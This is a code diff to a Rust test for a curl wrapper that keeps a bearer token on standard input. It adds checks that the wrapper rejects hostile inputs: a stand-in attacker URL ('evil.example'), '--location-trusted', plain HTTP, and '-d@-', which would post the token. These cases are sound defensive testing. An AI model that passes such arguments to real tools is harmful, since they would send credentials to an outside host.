@@ -147,12 +147,14 @@ fn curl_gets_the_token_on_its_standard_input_and_in_no_argument() {
     };
     let ran = curl("https://api.example/x");
     assert_eq!(ran.code, Some(22), "the exit code is curl's: {ran:#?}");
-    assert_eq!(place.read("arguments"), "--config\n-\n-v\nhttps://api.example/x\n");
+    assert_eq!(place.read("arguments"), "--disable\n--config\n-\n-v\nhttps://api.example/x\n");
     let input = place.read("input");
     assert!(input.starts_with("header = \"Authorization: Bearer ey"), "{input}");
-    assert!(input.contains("cacert = \"ca.pem\"\n"), "{input}");
+    assert!(input.contains("\ngloboff\n") && input.contains("cacert = \"ca.pem\"\n"), "{input}");
+    curl("evil.example:31760/x").bad("no URL that a token can be sent to");
+    curl("--location-trusted").bad("is not passed on");
     curl("http://api.example/x").bad("a token does not travel in plain HTTP");
-    curl("@-").bad("curl's standard input carries the token");
+    curl("-d@-").bad("curl's standard input carries the token");
 }
 
 #[test]
